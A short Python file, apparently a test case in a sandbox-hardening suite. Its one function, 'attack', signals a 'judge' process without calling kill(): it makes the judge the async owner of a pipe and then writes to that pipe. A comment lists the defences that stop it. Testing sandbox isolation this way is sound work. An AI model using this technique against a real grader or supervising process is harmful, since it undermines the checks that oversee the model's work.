"""Makes the judge the owner of a pipe that signals its owner when it is written to: no kill() anywhere."""
# stopped by: namespaces, landlock, seccomp, uid

import fcntl
import os
import signal

F_SETSIG = 10


def attack(judge):
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, judge["pid"])
    fcntl.fcntl(reader, F_SETSIG, signal.SIGURG)
    fcntl.fcntl(reader, fcntl.F_SETFL, fcntl.fcntl(reader, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(writer, b"x")
